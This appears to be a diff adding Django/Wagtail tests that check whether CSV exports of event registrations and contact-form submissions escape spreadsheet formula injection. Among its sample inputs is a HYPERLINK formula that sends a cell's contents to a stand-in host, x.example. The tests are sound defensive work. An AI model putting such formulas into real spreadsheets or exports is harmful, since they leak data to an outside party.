@@ -174,3 +174,55 @@ def test_a_union_changes_its_colour_and_a_bad_colour_is_refused(union_a):
         site_settings.full_clean()
         site_settings.save()
     assert "--primary: #b3261e" in union_a.client().get("/?mau=moi").content.decode()
+
+
+# -- formula injection in exports of what visitors typed (issue 14, item 8) -------------------
+
+_INJECTIONS = ['=HYPERLINK("http://x.example/?"&A1;"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
+
+
+def _csv_of(response) -> str:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    return body.decode("utf-8-sig")
+
+
+def _raw_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_event_registrations_export_visitors_formulas_as_text(union_a, admin_a):
+    from cms.models import EventRegistration
+
+    event = _event(union_a)
+    with schema_context(union_a.schema_name):
+        for n, injection in enumerate(_INJECTIONS):
+            EventRegistration.objects.create(
+                event=event, name=injection, organisation=injection, email=f"x{n}@example.vn"
+            )
+    response = admin_a.get("/admin/snippets/cms/eventregistration/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _raw_cells(_csv_of(response))
+    for injection in _INJECTIONS:
+        assert injection not in cells and "'" + injection in cells
+
+
+def test_contact_submissions_export_visitors_formulas_as_text(union_a, admin_a):
+    from wagtail.contrib.forms.models import FormSubmission
+
+    from cms.models import ContactFormField, ContactPage
+
+    with schema_context(union_a.schema_name):
+        page = HomePage.objects.get().add_child(
+            instance=ContactPage(title="Liên hệ", slug="lien-he", to_address="a@example.vn")
+        )
+        ContactFormField.objects.create(page=page, label="Nội dung", field_type="multiline")
+        for injection in _INJECTIONS:
+            FormSubmission.objects.create(page=page, form_data={"noi_dung": injection})
+    response = admin_a.get(f"/admin/forms/submissions/{page.pk}/", {"export": "csv"})
+    assert response.status_code == 200
+    cells = _raw_cells(_csv_of(response))
+    for injection in _INJECTIONS:
+        assert injection not in cells and "'" + injection in cells
